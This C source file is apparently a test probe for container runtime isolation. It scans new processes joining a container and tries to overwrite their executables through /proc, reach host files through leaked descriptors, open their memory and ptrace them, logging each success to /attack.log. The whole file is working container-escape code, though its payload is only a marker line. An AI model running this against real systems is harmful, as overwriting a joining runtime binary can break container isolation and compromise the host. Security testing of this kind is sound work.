/* What a hostile process does inside of a container: it looks for processes that join, and tries
 * to get hold of what they bring along, before they execute the container's own program. What it
 * achieves it writes to /attack.log, a line each:
 *
 *   SEEN name        a process that was not yet the container's own program
 *   EXE path         its executable could be read as a link
 *   WROTE path       ... and written to, then or later
 *   FD path          one of its descriptors could be read as a link
 *   FOREIGN path     ... and led to a directory or file that can be opened through it
 *   MEM              its memory could be opened
 *   PTRACE           it could be traced
 *   CAPS mask        its permitted capabilities
 *   SECCOMP mode     whether its filter was loaded
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define HELD 64
static int logfile, held[HELD], next;
static char said[256][160];
/* A file of the host's, from any of its directories. */
static char foreign[512];

/* Each line once. */
static void say(const char *what, const char *detail)
{
	char line[160];
	int length = snprintf(line, sizeof(line), "%s %s\n", what, detail), slot;
	if (length >= (int)sizeof(line))
		length = sizeof(line) - 1;
	for (slot = 0; slot < 256 && said[slot][0]; slot++)
		if (!strcmp(said[slot], line))
			return;
	if (slot < 256)
		strcpy(said[slot], line);
	if (write(logfile, line, length) != length)
		exit(1);
}

static void overwrite(int fd, const char *name)
{
	static const char payload[] = "#!/attacker\n";
	if (write(fd, payload, sizeof(payload) - 1) > 0)
		say("WROTE", name);
}

/* An executable can't be written to while it runs (ETXTBSY): its descriptor is kept, and opened
 * again for writing later. */
static void reopen(void)
{
	char path[64];
	for (int i = 0; i < HELD; i++) {
		if (held[i] <= 0)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		int fd = open(path, O_WRONLY);
		if (fd >= 0) {
			overwrite(fd, "what was kept");
			close(fd);
		}
	}
}

/* Names within the container end with its own programs' paths. */
static int own(const char *exe)
{
	return !strncmp(exe, "/bin/", 5);
}

/* Whether it executes the container's own program by now: then that is what was looked at. */
static int executed(int dir)
{
	char exe[256];
	ssize_t length = readlinkat(dir, "exe", exe, sizeof(exe) - 1);
	exe[length > 0 ? length : 0] = 0;
	return own(exe) || (length < 0 && errno == ENOENT);
}

static void descriptors(int dir)
{
	char target[256];
	int fds = openat(dir, "fd", O_RDONLY | O_DIRECTORY);
	DIR *list = fds < 0 ? NULL : fdopendir(fds);
	struct dirent *entry;
	if (!list) {
		if (fds >= 0)
			close(fds);
		return;
	}
	while ((entry = readdir(list))) {
		ssize_t length = readlinkat(fds, entry->d_name, target, sizeof(target) - 1);
		if (length <= 0 || entry->d_name[0] == '.')
			continue;
		target[length] = 0;
		/* pipe:[123] and its kind. */
		char *number = strchr(target, '[');
		if (number)
			*number = 0;
		struct stat canary;
		int fd = openat(fds, entry->d_name, O_PATH);
		int leads_out = fd >= 0 && !fstatat(fd, foreign, &canary, 0);
		if (fd >= 0)
			close(fd);
		if (executed(dir))
			break;
		say("FD", target);
		if (leads_out)
			say("FOREIGN", target);
	}
	closedir(list);
}

/* A line of /proc/PID/status. */
static void field(const char *status, const char *name, const char *what)
{
	char value[64];
	const char *line = strstr(status, name);
	if (line && sscanf(line + strlen(name), "%63s", value) == 1)
		say(what, value);
}

static void credentials(int dir)
{
	char status[4096];
	int fd = openat(dir, "status", O_RDONLY);
	ssize_t length = fd < 0 ? -1 : read(fd, status, sizeof(status) - 1);
	if (fd >= 0)
		close(fd);
	if (length <= 0 || executed(dir))
		return;
	status[length] = 0;
	field(status, "\nCapPrm:\t", "CAPS");
	field(status, "\nSeccomp:\t", "SECCOMP");
}

/* Returns 0 when there is nothing more to be had. */
static int reach(int dir, int pid)
{
	char exe[256], name[64];
	int fd;
	ssize_t length = readlinkat(dir, "exe", exe, sizeof(exe) - 1);
	if (length < 0 && errno == ENOENT)
		return 0;
	if (length > 0) {
		exe[length] = 0;
		if (own(exe))
			return 0;
		say("EXE", exe);
		if ((fd = openat(dir, "exe", O_WRONLY)) >= 0) {
			overwrite(fd, exe);
			close(fd);
		}
		if ((fd = openat(dir, "exe", O_RDONLY)) >= 0) {
			if (held[next])
				close(held[next]);
			held[next] = fd;
			next = (next + 1) % HELD;
		}
	}
	if ((fd = openat(dir, "comm", O_RDONLY)) >= 0) {
		length = read(fd, name, sizeof(name) - 1);
		close(fd);
		if (length > 0) {
			name[length - 1] = 0;
			if (strcmp(name, "true") && strcmp(name, "busybox"))
				say("SEEN", name);
		}
	}
	credentials(dir);
	descriptors(dir);
	if ((fd = openat(dir, "mem", O_RDWR)) >= 0) {
		length = readlinkat(dir, "exe", exe, sizeof(exe) - 1);
		exe[length > 0 ? length : 0] = 0;
		if (length > 0 && !own(exe))
			say("MEM", exe);
		close(fd);
	}
	/* It goes on as if nothing had happened: a signal would stop it for good. */
	if (!ptrace(PTRACE_SEIZE, pid, 0, 0)) {
		ptrace(PTRACE_INTERRUPT, pid, 0, 0);
		waitpid(pid, NULL, __WALL);
		length = readlinkat(dir, "exe", exe, sizeof(exe) - 1);
		exe[length > 0 ? length : 0] = 0;
		if (length > 0 && !own(exe))
			say("PTRACE", exe);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
	return 1;
}

/* Its argument is the path of a file of the host's. */
int main(int count, char **arguments)
{
	int last = getpid();
	snprintf(foreign, sizeof(foreign), "../../../../../../../../../../%s",
		 count > 1 ? arguments[1] : "");
	logfile = open("/attack.log", O_WRONLY | O_CREAT | O_APPEND, 0644);
	if (logfile < 0)
		return 1;
	say("READY", "");
	/* In a pid namespace numbers are given one after another. */
	for (;;) {
		for (int pid = last + 1; pid < last + 8; pid++) {
			char path[64];
			snprintf(path, sizeof(path), "/proc/%d", pid);
			int dir = open(path, O_PATH | O_DIRECTORY);
			if (dir < 0)
				continue;
			last = pid;
			while (reach(dir, pid))
				;
			close(dir);
		}
		reopen();
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
	}
}
